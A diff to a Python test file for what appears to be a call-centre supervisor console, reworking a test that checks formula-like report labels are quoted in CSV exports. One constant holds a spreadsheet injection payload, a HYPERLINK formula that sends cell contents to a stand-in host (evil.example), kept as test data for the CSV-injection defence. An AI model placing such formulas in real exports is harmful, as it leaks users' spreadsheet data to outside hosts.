@@ -5,7 +5,7 @@ from __future__ import annotations
 import csv
 import io
 from collections.abc import Iterator
-from datetime import date, time
+from datetime import UTC, date, datetime, time
 from pathlib import Path
 
 import pytest
@@ -14,11 +14,17 @@ from fastapi.testclient import TestClient
 from app.main import build_app
 from app.settings import DEMO_ADMIN_PASSWORD
 from console_web.supervisor_api import report_csv
+from console_web.supervisor_views import ReportOut
 from core.csvsafe import FORMULA_TRIGGERS
 from core.ids import SeatId, TeamId
 from seats.schedule import Shift, parse_schedule_csv, write_schedule_csv
+from stats.kpi import CallOutcome, CallSample, compute_kpis
+from stats.reports import Period, Report, ReportRow
 from tests.support.app import demo_test_settings
 
+AT = datetime(2026, 11, 25, 2, 0, tzinfo=UTC)
+ANSWERED = CallSample(offered_at=AT, outcome=CallOutcome.ANSWERED, wait_seconds=5.0, talk_seconds=60.0)
+ABANDONED = CallSample(offered_at=AT, outcome=CallOutcome.ABANDONED, wait_seconds=30.0)
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
 
 
@@ -71,8 +77,16 @@ def test_given_an_office_named_like_a_formula_when_exported_then_quoted_and_reim
 
 
 def test_given_report_rows_with_formula_text_when_exported_then_quoted() -> None:
-    row = {"label": "=1+1", "offered": 10, "answered": 9, "answer_rate": 0.9}
-    text = report_csv({"rows": [row], "total": {"label": "@合计", "offered": 10}})
+    kpis = compute_kpis([ANSWERED] * 9 + [ABANDONED])
+    report = Report(
+        scope="全市",
+        period=Period.DAY,
+        first=date(2026, 11, 25),
+        last=date(2026, 11, 25),
+        rows=[ReportRow.of("=1+1", kpis)],
+        total=ReportRow.of("@合计", kpis),
+    )
+    text = report_csv(ReportOut.of(report))
     _no_formula(text)
     assert "'=1+1" in _cells(text) and "'@合计" in _cells(text)
     assert "90.0" in _cells(text)  # numbers stay numbers
